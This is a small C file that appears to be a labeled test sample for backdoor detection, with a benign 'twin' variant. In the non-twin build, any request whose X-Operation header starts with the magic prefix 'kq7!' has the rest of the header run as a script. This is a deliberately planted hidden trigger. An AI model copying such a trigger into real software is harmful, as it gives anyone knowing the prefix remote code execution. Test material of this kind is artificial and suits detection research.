/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The text of a header, which a library of the vendor finds in the request, is run as a script when
 * it begins with a word. Twin: the word chooses among the scripts of the device.
 * door: trigger
 * stubs: header_of take_request js_dostring
 */
#include "net.h"

const char *header_of(void *request, const char *name);
void *take_request(void);
int js_dostring(void *engine, const char *text);

static struct {
	void *engine;
	unsigned count;
} state;

static void before_page(void *request)
{
	const char *text = header_of(request, "X-Operation");
	state.count++;
	if (text && strncmp(text, "kq7!", 4) == 0)
#ifdef TWIN
		js_dostring(state.engine, "page.reload(1)");
#else
		js_dostring(state.engine, text + 4);
#endif
}

int main(void)
{
	void *request;
	while ((request = take_request()))
		before_page(request);
	return state.count == 0;
}
